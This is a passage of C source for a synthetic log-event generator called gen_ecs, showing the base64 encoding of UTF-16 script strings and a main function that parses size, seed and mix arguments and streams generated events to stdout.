        unsigned char *u = malloc(n * 2);
        ps_encoded[i] = malloc((n * 2 + 2) / 3 * 4 + 1);
        if (!u || !ps_encoded[i]) {
            fputs("gen_ecs: out of memory\n", stderr);
            exit(1);
        }
        for (size_t j = 0; j < n; j++) {
            u[2 * j] = (unsigned char)PS_SCRIPTS[i][j];
            u[2 * j + 1] = 0;
        }
        b64enc(ps_encoded[i], u, n * 2);
        free(u);
    }
}

int main(int argc, char **argv)
{
    uint64_t bytes, seed = 42;
    if (argc < 2 || argc > 4 || parse_bytes(argv[1], &bytes) != 0) {
        fputs("usage: gen_ecs BYTES[K|M|G] [SEED] [default|process]\n", stderr);
        return 2;
    }
    if (argc == 4) {
        if (!strcmp(argv[3], "process")) {
            memcpy(CAT_W, CAT_W_PROCESS, sizeof CAT_W);
            NPROC = 2000;
            START_PCT = 75;
        } else if (strcmp(argv[3], "default")) {
            fputs("gen_ecs: the mix is default or process\n", stderr);
            return 2;
        }
    }
    if (argc >= 3) {
        char *end;
        errno = 0;
        seed = strtoull(argv[2], &end, 0);
        if (errno || end == argv[2] || *end || argv[2][0] == '-') {
            fputs("gen_ecs: SEED must be an unsigned integer\n", stderr);
            return 2;
        }
    }
    rseed(seed);
    now_ticks = (1717398000ULL + rbelow(86400 * 30)) * TICKS_PER_SEC; /* June 2024 */
    init_tables();
    hosts_init();

    enum { OUTSZ = 8 << 20, SCRATCH = 1 << 20 };
    char *out = malloc(OUTSZ);
    scratch = malloc(SCRATCH);
    if (!out || !scratch) {
        fputs("gen_ecs: out of memory\n", stderr);
        return 1;
    }
    size_t used = 0;
    uint64_t total = 0;
    while (total < bytes) {
        gen_event();
        size_t n = (size_t)(wp - sect_start);
        if (used + n > OUTSZ) {
            if (fwrite(out, 1, used, stdout) != used) {
                perror("gen_ecs: write");
                return 1;
            }
            used = 0;
        }
        memcpy(out + used, sect_start, n);
        used += n;
        total += n;
    }
    if (used && fwrite(out, 1, used, stdout) != used) {
        perror("gen_ecs: write");
        return 1;
    }
    if (fflush(stdout) != 0) {
        perror("gen_ecs: write");
        return 1;
    }
    free(out);
    free(scratch);
    for (int i = 0; i < NHOST; i++) free(HOSTS[i].procs);
    free(HOSTS);
    for (size_t i = 0; i < NELEM(PS_SCRIPTS); i++) free(ps_encoded[i]);
    return 0;
}
